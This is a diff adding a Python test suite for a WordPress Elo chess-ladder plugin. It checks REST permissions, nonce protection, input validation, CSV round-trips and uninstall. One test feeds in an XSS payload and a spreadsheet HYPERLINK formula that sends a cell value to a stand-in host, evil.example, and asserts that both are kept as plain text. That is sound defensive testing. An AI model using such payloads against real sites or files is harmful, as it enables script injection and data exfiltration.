@@ -1,0 +1,412 @@
+"""Ladders kept in the club's WordPress (issue 40): an Editor keeps a ladder through the admin page in Chromium
+and through the REST routes (called in-process with `rest_do_request` after `wp_set_current_user`, which runs
+their permission callbacks, and over HTTP for the nonce); the public page ranks the players as `elo-core ladder`
+ranks the exported files, and a new result shows on a reload. Hostile input, other users and deleted ladders are
+refused with a message that names the field, and leave the ladder and its files as they were.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import subprocess
+import sys
+import urllib.request
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from elo_core._ledger import Ledger, read_ledger
+from tests.wordpress.conftest import log_in
+from tests.wordpress.host import PLUGIN, WordPress, php_quote
+
+ROOT = Path(__file__).resolve().parents[2]
+LADDER = ROOT / "tests" / "ladder"
+GAMES, GAMES_DE, PLAYERS = LADDER / "club-games.csv", LADDER / "club-games-de.csv", LADDER / "club-players.csv"
+EDITOR = ("secretary", "a-secretary-password-1")
+# The ladder's rules, given to the CLI alike.
+RULES = {"system": "elo", "k": "24", "provisional": "1", "inactive-months": "3"}
+CLI_RULES = ["--system", "elo", "--k", "24", "--provisional", "1", "--inactive-months", "3"]
+
+
+@pytest.fixture(scope="module")
+def users(wordpress: WordPress) -> dict[str, int]:
+    """An Editor (the results secretary), an Author, and a Contributor (whose role a test gives the capability to
+    keep ladders, as an administrator gives it to any role)."""
+    made = json.loads(wordpress.php(
+        "$ids = array();"
+        "foreach (array("
+        f"'editor' => array('{EDITOR[0]}', '{EDITOR[1]}', 'Sam Secretary'), "
+        "'author' => array('writer', 'a-writer-password-1', 'Wren Writer'), "
+        "'contributor' => array('helper', 'a-helper-password-1', 'Hal Helper'))"
+        " as $role => list($login, $pass, $name)) {"
+        "  $user = get_user_by('login', $login);"
+        "  $ids[$role] = $user ? $user->ID : wp_insert_user(array('user_login' => $login, 'user_pass' => $pass, "
+        "    'role' => $role, 'display_name' => $name));"
+        "}"
+        "echo wp_json_encode($ids);"))
+    assert all(isinstance(v, int) for v in made.values()), made
+    return {role: int(user) for role, user in made.items()}
+
+
+def rest(wordpress: WordPress, user: int, *calls: tuple[str, str, dict[str, Any] | None]) -> list[tuple[int, Any]]:
+    """Each (method, route under elo-calculator/v1, JSON body) as `user` (0: a visitor), in one PHP run:
+    each answer's status and data, as WordPress's REST server answers it."""
+    code = f"wp_set_current_user({user}); $out = array();"
+    for method, route, body in calls:
+        code += (f"$r = new WP_REST_Request('{method}', {php_quote('/elo-calculator/v1' + route)});"
+                 "$r->set_header('content-type', 'application/json');"
+                 f"$r->set_body({php_quote(json.dumps(body or {}))});"
+                 "$a = rest_do_request($r);"
+                 "$out[] = array($a->get_status(), rest_get_server()->response_to_data($a, false));")
+    answers = json.loads(wordpress.php(code + "echo wp_json_encode($out);", as_web=True))
+    return [(status, data) for status, data in answers]
+
+
+def one(wordpress: WordPress, user: int, method: str, route: str,
+        body: dict[str, Any] | None = None) -> tuple[int, Any]:
+    return rest(wordpress, user, (method, route, body))[0]
+
+
+def fetched(url: str) -> bytes:
+    with urllib.request.urlopen(url, timeout=30) as answer:  # the site's own loopback address
+        return bytes(answer.read())
+
+
+def file_rows(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
+
+
+def keep_club_ladder(wordpress: WordPress, editor: int, name: str) -> dict[str, Any]:
+    """A ladder made through the routes: the club's players, then each of its games as the file writes it."""
+    status, ladder = one(wordpress, editor, "POST", "/ladders", {"name": name, **RULES})
+    assert 201 == status, ladder
+    calls: list[tuple[str, str, dict[str, Any] | None]] = [
+        ("POST", f"/ladders/{ladder['slug']}/players", dict(p)) for p in file_rows(PLAYERS)]
+    calls += [("POST", f"/ladders/{ladder['slug']}/games", g) for g in file_rows(GAMES)]
+    answers = rest(wordpress, editor, *calls)
+    assert [201] * len(calls) == [status for status, _ in answers], [a for a in answers if a[0] != 201]
+    return dict(ladder)
+
+
+def cli_ranking(games: bytes, players: bytes, tmp: Path, pool: str) -> list[tuple[str, str]]:
+    """`python -m elo_core ladder` on the exported files: each ranked player's name and rating as shown."""
+    (tmp / "games.csv").write_bytes(games)
+    (tmp / "players.csv").write_bytes(players)
+    run = subprocess.run([sys.executable, "-m", "elo_core", "ladder", str(tmp / "games.csv"), "--players",
+                          str(tmp / "players.csv"), *CLI_RULES, "--pool", pool, "--json"],
+                         capture_output=True, text=True, check=True, cwd=ROOT)
+    return [(p["name"], f"{p['rating']:.0f}") for p in json.loads(run.stdout)["players"] if p["pool"] == pool]
+
+
+def page_ranking(page: Page) -> list[tuple[str, str]]:
+    frame = page.frame_locator("elo-calculator >> iframe")
+    table = frame.get_by_role("table", name=re.compile(r"^Ranking \("))
+    expect(table).to_be_visible(timeout=60_000)
+    heads = [h.strip(" ↕▲▼") for h in table.locator(":scope > thead > tr > th").all_inner_texts()]
+    rows: list[list[str]] = table.locator(":scope > tbody > tr").evaluate_all(
+        "rows => rows.map(r => [...r.children].map(c => c.textContent))")
+    named = [dict(zip(heads, row, strict=True)) for row in rows]
+    return [(r["Name"], r["Rating"].replace(",", "")) for r in named]
+
+
+def test_an_editor_keeps_a_ladder_through_the_routes_and_the_page_ranks_it_as_the_cli(
+        page: Page, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
+    ladder = keep_club_ladder(wordpress, users["editor"], "Club ladder")
+    assert "club-ladder" == ladder["slug"]
+    assert ladder["csv_url"].startswith(wordpress.origin + "/wp-content/uploads/")
+    url = wordpress.add_page("Ladder", '[elo_calculator ladder="club-ladder" lang="en"]')
+    page.goto(url)
+    frame = page.frame_locator("elo-calculator >> iframe")
+    expect(frame.get_by_role("heading", name="Club ladder", level=2)).to_be_visible(timeout=60_000)
+    expect(frame.get_by_text(re.compile(r"^Last updated \w+ \d+, \d{4}$"))).to_be_visible()
+    games, players = fetched(ladder["csv_url"]), fetched(ladder["players_url"])
+    before = cli_ranking(games, players, tmp_path, "rapid")
+    assert before == page_ranking(page)
+    assert 7 == len(before)  # the rapid pool's players
+
+    # A new result, entered by the Editor, is on the page at the next reload.
+    status, game = one(wordpress, users["editor"], "POST", "/ladders/club-ladder/games",
+                       {"date": "2026-03-03", "white": "eva müller", "black": "Anna Meier", "result": "1-0",
+                        "pool": "rapid"})
+    assert 201 == status and {"white": "EM", "black": "AM", "result": "1-0"}.items() <= game.items(), game
+    page.reload()
+    after = cli_ranking(fetched(ladder["csv_url"]), fetched(ladder["players_url"]), tmp_path, "rapid")
+    assert after != before
+    assert after == page_ranking(page)
+
+
+def test_an_author_a_visitor_and_another_keeper_may_not_change_the_ladder(
+        wordpress: WordPress, users: dict[str, int]) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Blitz ladder", **RULES})
+    assert 201 == status
+    slug = ladder["slug"]
+    player = {"id": "AM", "name": "Anna Meier"}
+    game = {"date": "2026-03-03", "white": "AM", "black": "BK", "result": "1-0"}
+    rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/players", player),
+         ("POST", f"/ladders/{slug}/players", {"id": "BK", "name": "Ben Keller"}))
+    changes: list[tuple[str, str, dict[str, Any] | None]] = [
+        ("POST", "/ladders", {"name": "Mine"}), ("PUT", f"/ladders/{slug}", {"k": "40"}),
+        ("DELETE", f"/ladders/{slug}", None), ("POST", f"/ladders/{slug}/players", {"name": "Zed"}),
+        ("POST", f"/ladders/{slug}/games", game), ("POST", f"/ladders/{slug}/import", {"games": "2026-03-03,AM,BK,1"})]
+    before = fetched(ladder["csv_url"])
+    assert [403] * len(changes) == [s for s, _ in rest(wordpress, users["author"], *changes)]
+    assert [401] * len(changes) == [s for s, _ in rest(wordpress, 0, *changes)]
+    assert 401 == one(wordpress, 0, "GET", f"/ladders/{slug}")[0]
+    assert 200 == one(wordpress, users["author"], "GET", f"/ladders/{slug}")[0]  # the block's ladder choice reads it
+
+    # A Contributor whose role keeps ladders keeps their own, and not the Editor's. (Given here: the uninstall
+    # test, which may run first, takes the capabilities away.)
+    wordpress.php("get_role('contributor')->add_cap('elo_calculator_keep_ladders');")
+    status, own = one(wordpress, users["contributor"], "POST", "/ladders", {"name": "Helper's ladder"})
+    assert 201 == status and users["contributor"] == own["owner"], own
+    answers = rest(wordpress, users["contributor"], *changes[1:])
+    assert [403] * (len(changes) - 1) == [s for s, _ in answers]
+    assert "kept by another user" in answers[0][1]["message"]
+    assert before == fetched(ladder["csv_url"])
+    assert 0 == len(one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[1]["games"])
+
+
+@pytest.mark.parametrize(("sent", "field", "message"), [
+    ({"date": "2026-02-30"}, "date", "date: a date as YYYY-MM-DD"),
+    ({"date": "0001-01-01"}, "date", "from 1900 to 2199"),
+    ({"result": "0.7"}, "result", "result: a result such as 1-0"),
+    ({"result": ["1"]}, "result", "result:"),
+    ({"black": "AM"}, "black", "cannot play themselves"),
+    ({"white": "Nobody"}, "white", 'no player "Nobody": add the player first'),
+    ({"white": ""}, "white", "give a player"),
+    ({"pool": "x" * 41}, "pool", "at most 40 characters"),
+])
+def test_a_bad_game_is_refused_naming_its_field_and_nothing_is_written(
+        wordpress: WordPress, users: dict[str, int], sent: dict[str, Any], field: str, message: str) -> None:
+    slug = "bad-input-ladder"
+    if 404 == one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[0]:
+        assert 201 == one(wordpress, users["editor"], "POST", "/ladders", {"name": "Bad input ladder"})[0]
+        rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/players", {"id": "AM", "name": "Anna"}),
+             ("POST", f"/ladders/{slug}/players", {"id": "BK", "name": "Ben"}))
+    ladder = one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[1]
+    before = fetched(ladder["csv_url"]), ladder["games"]
+    status, answer = one(wordpress, users["editor"], "POST", f"/ladders/{slug}/games",
+                         {"date": "2026-03-03", "white": "AM", "black": "BK", "result": "1", **sent})
+    assert 400 == status, answer
+    assert field == answer["data"]["field"] and message in answer["message"], answer
+    after = one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[1]["games"]
+    assert before == (fetched(ladder["csv_url"]), after)
+
+
+def test_hostile_names_are_text_everywhere_and_formulas_are_kept_as_text_in_the_files(
+        browser: Browser, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
+    html = '<img src=x onerror="window.pwned=1">'
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": f"{html} ladder"})
+    assert 201 == status
+    slug = ladder["slug"]
+    assert re.fullmatch(r"[a-z0-9-]+", slug)
+    long = one(wordpress, users["editor"], "POST", f"/ladders/{slug}/players", {"name": "x" * 10_000})
+    assert 400 == long[0] and "name" == long[1]["data"]["field"] and "at most 100 characters" in long[1]["message"]
+    assert 400 == one(wordpress, users["editor"], "POST", "/ladders", {"name": "y" * 10_000})[0]
+    answers = rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/players", {"id": "H", "name": html}),
+                   ("POST", f"/ladders/{slug}/players", {"id": "=F", "name": formula}),
+                   ("POST", f"/ladders/{slug}/games",
+                    {"date": "2026-03-03", "white": "H", "black": "=F", "result": "½"}))
+    assert [201, 201, 201] == [s for s, _ in answers], answers
+    players = fetched(ladder["players_url"])
+    assert b'\r\n\'=F,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,yes\r\n' in players
+    assert b"2026-03-03,H,'=F,1/2-1/2" in fetched(ladder["csv_url"])
+    read = read_ledger(fetched(ladder["csv_url"]), players)  # the ladder view's reader drops the apostrophe
+    assert [html, formula] == [p.name for p in read.players]
+
+    context = log_in(browser, wordpress, *EDITOR)
+    try:
+        page = context.new_page()
+        page.goto(f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders&ladder={slug}")
+        expect(page.get_by_role("heading", name=f"{html} ladder")).to_be_visible()
+        expect(page.get_by_label("Name H", exact=True)).to_have_value(html)
+        expect(page.locator(".elo-games")).to_contain_text(html)
+        expect(page.locator(".elo-games")).to_contain_text(formula)
+        assert 0 == page.locator("img[src=x]").count()
+        url = wordpress.add_page("Hostile", f'[elo_calculator ladder="{slug}" lang="en"]')
+        page.goto(url)
+        frame = page.frame_locator("elo-calculator >> iframe")
+        expect(frame.get_by_role("table", name=re.compile(r"^Ranking \("))).to_contain_text(html, timeout=60_000)
+        assert 0 == frame.locator("img[src=x]").count() + page.locator("img[src=x]").count()
+        assert page.evaluate("window.pwned") is None
+    finally:
+        context.close()
+
+
+def test_a_request_from_the_editor_s_browser_without_the_nonce_is_refused(
+        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
+    """Cookies alone (what a hostile page's form or fetch would send) are a visitor's request to WordPress."""
+    context = log_in(browser, wordpress, *EDITOR)
+    try:
+        page = context.new_page()
+        page.goto(f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders")
+        expect(page.get_by_role("heading", name="New ladder")).to_be_visible()
+        endpoint = f"{wordpress.origin}/?rest_route=/elo-calculator/v1/ladders"  # the site has no pretty links
+        refused = context.request.post(endpoint, data={"name": "Forged ladder"})
+        assert 401 == refused.status, refused.text()
+        form = context.request.post(endpoint, form={"name": "Forged ladder"})
+        assert 401 == form.status
+        nonce = page.evaluate("wp.apiFetch.nonceMiddleware.nonce")
+        made = context.request.post(endpoint, data={"name": "Nonce ladder"}, headers={"X-WP-Nonce": nonce})
+        assert 201 == made.status, made.text()
+        names = [ladder["name"] for ladder in one(wordpress, users["editor"], "GET", "/ladders")[1]]
+        assert "Nonce ladder" in names and "Forged ladder" not in names
+    finally:
+        context.close()
+
+
+def test_a_deleted_ladder_s_slug_names_nothing_and_its_page_says_so(
+        page: Page, wordpress: WordPress, users: dict[str, int]) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Old ladder"})
+    assert 201 == status
+    slug = ladder["slug"]
+    folder = wordpress.root / "wp-content" / "uploads" / "elo-calculator" / slug
+    assert (folder / "games.csv").exists()
+    url = wordpress.add_page("Old", f'[elo_calculator ladder="{slug}" lang="en"]')
+    assert 200 == one(wordpress, users["editor"], "DELETE", f"/ladders/{slug}")[0]
+    assert not folder.exists()
+    answers = rest(wordpress, users["editor"], ("GET", f"/ladders/{slug}", None),
+                   ("POST", f"/ladders/{slug}/games",
+                    {"date": "2026-03-03", "white": "A", "black": "B", "result": "1"}),
+                   ("DELETE", f"/ladders/{slug}", None), ("GET", f"/ladders/{slug}/history", None))
+    assert [404] * 4 == [s for s, _ in answers]
+    assert "slug" == answers[0][1]["data"]["field"]
+    page.goto(url)
+    expect(page.get_by_text("This ladder is no longer kept on this site.")).to_be_visible()
+    assert 0 == page.locator("elo-calculator").count()
+
+
+def same_ledger(first: Ledger, second: Ledger) -> None:
+    def games(ledger: Ledger) -> list[tuple[Any, ...]]:
+        return sorted((g.date, g.white, g.black, g.score, g.forfeit, g.pool) for g in ledger.games)
+
+    assert games(first) == games(second)
+    assert [(p.id, p.name, p.rating, p.active) for p in first.players] == [
+        (p.id, p.name, p.rating, p.active) for p in second.players]
+
+
+@pytest.mark.parametrize("games", [GAMES, GAMES_DE], ids=["comma", "german-excel"])
+def test_the_club_s_files_imported_come_back_from_the_export_with_the_same_games_and_players(
+        wordpress: WordPress, users: dict[str, int], games: Path) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": f"Import {games.stem}"})
+    assert 201 == status
+    status, done = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import",
+                       {"games": games.read_bytes().decode("utf-8"), "players": PLAYERS.read_text(encoding="utf-8")})
+    original = read_ledger(games.read_bytes(), PLAYERS.read_bytes())
+    assert (200, {"games": len(original.games), "players": len(original.players)}) == (status, done), done
+    exported = read_ledger(fetched(ladder["csv_url"]), fetched(ladder["players_url"]))
+    same_ledger(original, exported)
+    assert [] == [p.code for p in exported.problems if p.code != "repeated_game"]
+
+
+def test_an_import_with_a_bad_line_is_refused_whole_naming_the_line(
+        wordpress: WordPress, users: dict[str, int]) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Half import"})
+    assert 201 == status
+    text = "date,white,black,result\n2026-03-03,Anna,Ben,1\n2026-03-10,Anna,Ben,0.7\n2026-13-01,Ben,Anna,0\n"
+    status, answer = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import", {"games": text})
+    assert 400 == status and "games" == answer["data"]["field"]
+    assert "line 3: result:" in answer["message"] and "line 4: date:" in answer["message"], answer
+    got = one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]
+    assert ([], []) == (got["games"], got["players"])
+
+
+def test_the_secretary_enters_results_on_the_admin_page_with_undo_and_history(
+        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
+    context = log_in(browser, wordpress, *EDITOR)
+    try:
+        page = context.new_page()
+        page.goto(f"{wordpress.origin}/wp-admin/")
+        page.get_by_role("link", name="Elo calculator", exact=True).first.click()
+        expect(page.get_by_role("heading", name="New ladder")).to_be_visible()
+        page.get_by_label("Name").fill("Rapid ladder 2026")
+        page.get_by_label("Rating system").select_option("elo")
+        page.get_by_role("button", name="Create ladder").click()
+        expect(page.get_by_role("heading", name="Rapid ladder 2026")).to_be_visible()
+        expect(page.get_by_text('[elo_calculator ladder="rapid-ladder-2026"]')).to_be_visible()
+
+        # The club's files, imported.
+        page.get_by_label("Results file (CSV, as a spreadsheet exports it)").set_input_files(str(GAMES))
+        page.get_by_label("Players file (optional: id, name, rating, active)").set_input_files(str(PLAYERS))
+        page.get_by_role("button", name="Import", exact=True).click()
+        status = page.get_by_role("status")
+        expect(status).to_have_text("Added: 28 games, 8 new players.")
+        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
+
+        # Tonight's result by the players' names, one button; then Undo.
+        page.get_by_label("White (first player)").fill("Anna Meier")
+        page.get_by_label("Black (second player)").fill("Ben Keller")
+        page.get_by_role("button", name="Draw ½-½").click()
+        expect(status).to_contain_text("Saved: ")
+        expect(status).to_contain_text("Anna Meier – Ben Keller 1/2-1/2")
+        expect(page.get_by_role("heading", name="Games (29)")).to_be_visible()
+        expect(page.get_by_label("White (first player)")).to_be_focused()
+        status.get_by_role("button", name="Undo").click()
+        expect(status).to_contain_text("Deleted: ")
+        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
+
+        # A game deleted from the list, then restored from the history.
+        first = page.get_by_role("button", name=re.compile(r"^Delete 2026-02-24 ")).first
+        first.click()
+        expect(page.get_by_role("heading", name="Games (27)")).to_be_visible()
+        history = page.locator("#elo-history")
+        expect(history).to_contain_text("Sam Secretary · deleted: 2026-02-24")
+        history.get_by_role("button", name="Restore").first.click()
+        expect(status).to_contain_text("Restored: 2026-02-24")
+        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
+
+        # A game edited in its row.
+        page.get_by_role("button", name=re.compile(r"^Edit 2026-02-24 ")).first.click()
+        page.locator(".elo-games select[name=result]").select_option(label="Black won 0-1")
+        page.get_by_role("button", name="Save", exact=True).click()
+        expect(status).to_contain_text("Saved: 2026-02-24")
+        expect(status).to_contain_text("0-1")
+
+        # A name that is no player is refused where it was typed, and nothing is lost.
+        page.get_by_label("White (first player)").fill("Nobody")
+        page.get_by_label("Black (second player)").fill("Ben Keller")
+        page.get_by_role("button", name="White won 1-0").click()
+        expect(status).to_contain_text('Not saved: white: the ladder has no player "Nobody"')
+        expect(page.get_by_label("White (first player)")).to_have_value("Nobody")
+        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
+    finally:
+        context.close()
+
+
+def test_uninstall_keeps_the_ladders_unless_the_settings_say_delete_them(
+        admin: BrowserContext, wordpress: WordPress, users: dict[str, int], plugin_zip: Path) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Kept ladder"})
+    assert 201 == status
+    tables = "SHOW TABLES FROM wordpress LIKE 'wp\\_elo\\_calculator\\_%'"
+
+    def uninstall() -> None:
+        assert "deleted" == wordpress.php(
+            f"deactivate_plugins('{PLUGIN}'); $r = delete_plugins(array('{PLUGIN}'));"
+            "echo true === $r ? 'deleted' : (is_wp_error($r) ? $r->get_error_message() : var_export($r, true));")
+
+    try:
+        uninstall()
+        assert 4 == len(wordpress.db.sql(tables).split())
+        wordpress.install_plugin(plugin_zip)
+        assert "Kept ladder" == one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]["name"]
+
+        page = admin.new_page()
+        page.goto(f"{wordpress.origin}/wp-admin/options-general.php?page=elo-calculator")
+        page.get_by_label("Delete the ladders (their games, players, history and files) when the plugin is "
+                          "deleted").check()
+        page.get_by_role("button", name="Save Changes").click()
+        expect(page.get_by_text("Settings saved.")).to_be_visible()
+        page.close()
+        uninstall()
+        assert [] == wordpress.db.sql(tables).split()
+        assert not (wordpress.root / "wp-content" / "uploads" / "elo-calculator").exists()
+        assert "" == wordpress.db.sql("SELECT option_name FROM wordpress.wp_options WHERE option_name LIKE "
+                                      "'elo\\_calculator%' OR option_value LIKE '%elo\\_calculator%'").strip()
+    finally:
+        if PLUGIN not in wordpress.php("echo implode(',', get_option('active_plugins'));"):
+            wordpress.install_plugin(plugin_zip)  # the other tests' plugin, as it was
